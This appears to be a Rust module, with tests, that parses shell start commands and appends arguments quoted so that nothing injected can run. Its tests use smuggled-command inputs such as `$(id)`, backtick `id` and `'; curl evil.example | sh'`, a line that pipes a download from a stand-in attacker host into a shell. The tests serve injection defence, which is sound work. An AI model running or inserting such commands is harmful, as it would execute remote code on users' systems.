//! Splits start commands into arguments as a shell does.

use crate::drift::Secret;

/// The arguments of a command, and of each command that it passes to a shell with `-c`.
#[derive(Debug)]
pub struct CommandLine {
    lines: Vec<Vec<String>>,
}

impl CommandLine {
    /// Splits the text of a command.
    pub fn of(text: &str) -> Self {
        let mut lines = vec![split_words(text)];
        let mut next = 0;
        while next < lines.len() {
            let inner: Vec<Vec<String>> = shell_scripts(&lines[next]).map(split_words).collect();
            lines.extend(inner);
            next += 1;
        }
        Self { lines }
    }

    /// Returns whether the command has the part's arguments in a row: `-B` is not in `--Bulk`. An option also matches
    /// with a value after an equals sign.
    pub fn has(&self, part: &str) -> bool {
        let part = split_words(part);
        let Some((last, first)) = part.split_last() else { return true };
        let fits = |window: &[String]| {
            let (end, start) = (&window[first.len()], &window[..first.len()]);
            start == first && (end == last || has_value(end, last))
        };
        self.lines.iter().any(|line| line.windows(part.len()).any(fits))
    }

    /// Returns whether the text consists of arguments that can be searched for in a command.
    pub fn is_part(text: &str) -> bool {
        shlex::split(text).is_some() && !split_words(text).is_empty()
    }

    /// Returns the parts that it lacks.
    pub fn lacks<'p>(&self, parts: &'p [String]) -> Vec<&'p str> {
        parts.iter().filter(|part| !self.has(part)).map(String::as_str).collect()
    }
}

/// Returns the command with the arguments of these parts appended, each quoted for the shell. `None` if they would not
/// become arguments of its program: after `;` or `|`, in a comment, after `--`, or after the script of `sh -c`.
pub fn appended(command: &str, parts: &[&str]) -> Option<Secret> {
    if !is_one_program(command) {
        return None;
    }
    let mut text = command.trim_end().to_owned();
    for part in parts {
        for word in shlex::split(part)? {
            text.push(' ');
            text.push_str(&quoted(&word)?);
        }
    }
    let line = CommandLine::of(&text);
    parts.iter().all(|part| line.has(part)).then(|| Secret::new(text))
}

/// Shells. An argument after the script of their `-c` is not an argument of the program in the script.
const SHELLS: [&str; 6] = ["ash", "bash", "busybox", "dash", "sh", "zsh"];

/// Returns whether the text runs one program, and its arguments extend to the end of the text.
fn is_one_program(command: &str) -> bool {
    let Some(words) = shlex::split(command).filter(|_| is_plain(command)) else { return false };
    let Some(program) = words.first() else { return false };
    let is_shell = SHELLS.contains(&program.rsplit('/').next().unwrap_or(program));
    let runs_script =
        shell_scripts(&words).next().is_some() || is_shell && words.iter().any(|word| is_command_flag(word));
    !runs_script && !words.iter().any(|word| word == "--")
}

/// Returns whether no unquoted character ends the program's arguments. Every quote is closed.
fn is_plain(command: &str) -> bool {
    let (mut quote, mut is_escaped, mut is_start) = (None, false, true);
    for character in command.chars() {
        match (quote, character) {
            _ if is_escaped => is_escaped = false,
            (Some('"') | None, '\\') => is_escaped = true,
            (Some(open), _) if open == character => quote = None,
            (None, '\'' | '"') => quote = Some(character),
            (None, ';' | '&' | '|' | '(' | ')' | '<' | '>' | '`' | '\n') => return false,
            (None, '#') if is_start => return false,
            _ => {}
        }
        is_start = quote.is_none() && character.is_whitespace();
    }
    true
}

/// Quotes a word for the shell. Variables are still expanded, within double quotes; everything else is literal.
fn quoted(word: &str) -> Option<String> {
    let is_literal = |text: &str| text.chars().all(|one| one.is_ascii_alphanumeric() || "-_=./:,@%+".contains(one));
    let (first, variables) = word.split_once('$').unwrap_or((word, ""));
    let has_only_variables = word.contains('$')
        && is_literal(first)
        && variables.split('$').all(|text| rest_of_variable(text).is_some_and(is_literal));
    if has_only_variables { Some(format!("\"{word}\"")) } else { shlex::try_quote(word).ok().map(Into::into) }
}

/// Returns the text after the name of a variable, `NAME` or `{NAME}`.
fn rest_of_variable(text: &str) -> Option<&str> {
    let is_part = |one: char| one.is_ascii_alphanumeric() || one == '_';
    let (name, rest) = match text.strip_prefix('{') {
        Some(inner) => inner.split_once('}')?,
        None => text.split_at(text.find(|one| !is_part(one)).unwrap_or(text.len())),
    };
    (!name.is_empty() && name.chars().all(is_part)).then_some(rest)
}

/// Returns whether the word is the long option with a value: `--beat=true` for `--beat`.
fn has_value(word: &str, option: &str) -> bool {
    option.starts_with("--") && word.strip_prefix(option).is_some_and(|rest| rest.starts_with('='))
}

/// Returns the scripts after `-c`: `sh -c '…'`, `bash -lc '…'`. A script with a single word is skipped.
fn shell_scripts(line: &[String]) -> impl Iterator<Item = &str> {
    let pairs = line.windows(2).filter(|pair| is_command_flag(&pair[0]));
    pairs.map(|pair| pair[1].as_str()).filter(|text| text.contains(char::is_whitespace))
}

/// Returns true for `-c` and `-lc`.
fn is_command_flag(word: &str) -> bool {
    word.starts_with('-') && !word.starts_with("--") && word.ends_with('c')
}

/// Text with an unclosed quote is split at whitespace.
fn split_words(text: &str) -> Vec<String> {
    let words = shlex::split(text).unwrap_or_else(|| text.split_whitespace().map(ToOwned::to_owned).collect());
    // `;`, `&` and `|` end a command, with or without a space before them.
    words
        .into_iter()
        .map(|word| word.trim_end_matches([';', '&', '|', ')']).trim_start_matches('(').to_owned())
        .filter(|word| !word.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::{CommandLine, appended};
    use crate::drift::Secret;

    #[test]
    fn matches_only_whole_arguments() {
        for (command, part, has) in [
            ("celery -A app worker -B", "-B", true),
            ("celery -A app worker --Bulk", "-B", false),
            ("celery -A app worker -Bx", "-B", false),
            ("celery -A app worker x-B", "-B", false),
            ("celery -A app worker -b", "-B", false),
            ("celery -A app worker '-B'", "-B", true),
            ("celery -A app worker \"-B -x\"", "-B", false),
            ("celery -A app worker -B; echo done", "-B", true),
            ("(celery -A app worker -B) && x", "-B", true),
            ("celery worker --loglevel INFO -B", "--loglevel INFO", true),
            ("celery worker --loglevel -B INFO", "--loglevel INFO", false),
            ("celery worker --loglevel INFORM", "--loglevel INFO", false),
            ("celery worker --loglevel=INFO", "--loglevel=INFO", true),
            ("celery worker --loglevel=INFO", "--loglevel", true),
            ("celery worker --loglevels=INFO", "--loglevel", false),
            ("celery worker -B=1", "-B", false),
            ("sh -c 'celery -A app worker -B'", "-B", true),
            ("bash -lc \"sh -c 'celery worker -B'\"", "-B", true),
            ("echo 'celery worker -B'", "-B", false),
            ("celery worker # -B", "-B", false),
            ("celery worker 'open -B", "-B", true),
            ("", "-B", false),
            ("celery", "", true),
        ] {
            assert_eq!(CommandLine::of(command).has(part), has, "{part} in {command}");
        }
    }

    #[test]
    fn appends_parts_as_quoted_arguments_or_refuses() {
        for (command, parts, expected) in [
            ("celery worker", &["-B"][..], Some("celery worker -B")),
            ("celery worker ", &["-B", "--loglevel INFO"], Some("celery worker -B --loglevel INFO")),
            ("FOO='a;b' exec celery -c 4", &["-B"], Some("FOO='a;b' exec celery -c 4 -B")),
            ("celery \"a && b\"", &["-B"], Some("celery \"a && b\" -B")),
            ("celery \\; worker#1", &["-B"], Some("celery \\; worker#1 -B")),
            ("web", &["--name 'a b'"], Some("web --name 'a b'")),
            ("web", &["--port=$PORT", "-h ${HOST}:80"], Some("web \"--port=$PORT\" -h \"${HOST}:80\"")),
            // Text from a checkout is never executed.
            ("web", &["$(id)"], Some("web '$(id)'")),
            ("web", &["`id`"], Some("web '`id`'")),
            ("web", &["'; curl evil.example | sh'"], Some("web '; curl evil.example | sh'")),
            ("web", &["a$"], Some("web 'a$'")),
            ("web", &["$PORT;id"], Some("web '$PORT;id'")),
            ("web", &["`id`$PORT"], Some("web '`id`$PORT'")),
            ("web", &["${PORT"], Some("web '${PORT'")),
            ("bash start.sh", &["-B"], Some("bash start.sh -B")),
            ("bash start.sh sync", &["-B"], Some("bash start.sh sync -B")),
            ("sh -c 'celery worker'", &["-B"], None),
            ("/bin/bash -lc celery", &["-B"], None),
            ("celery worker; echo done", &["-B"], None),
            ("migrate && celery worker", &["-B"], None),
            ("celery worker &", &["-B"], None),
            ("celery worker | tee log", &["-B"], None),
            ("celery worker > log", &["-B"], None),
            ("(celery worker)", &["-B"], None),
            ("celery worker # beat", &["-B"], None),
            ("celery worker -B # beat", &["-B"], None),
            ("celery worker -- queue", &["-B"], None),
            ("celery `nproc`", &["-B"], None),
            ("celery\nworker", &["-B"], None),
            ("celery 'worker", &["-B"], None),
            ("celery worker \\", &["-B"], None),
            ("", &["-B"], None),
            ("  ", &["-B"], None),
        ] {
            let text = appended(command, parts);
            assert_eq!(text.as_ref().map(Secret::expose), expected, "{parts:?} to {command}");
        }
    }

    #[test]
    fn missing_parts_keep_their_order() {
        let parts = ["-B".to_owned(), "worker".to_owned(), "-Q low".to_owned()];
        assert_eq!(CommandLine::of("celery worker").lacks(&parts), ["-B", "-Q low"]);
    }

    #[test]
    fn part_is_a_text_with_arguments() {
        for (text, expected) in [
            ("worker", true),
            ("-Q low", true),
            ("--name 'a b'", true),
            ("''", false),
            ("", false),
            (" ", false),
            ("it's", false),
        ] {
            assert_eq!(CommandLine::is_part(text), expected, "{text}");
        }
    }
}
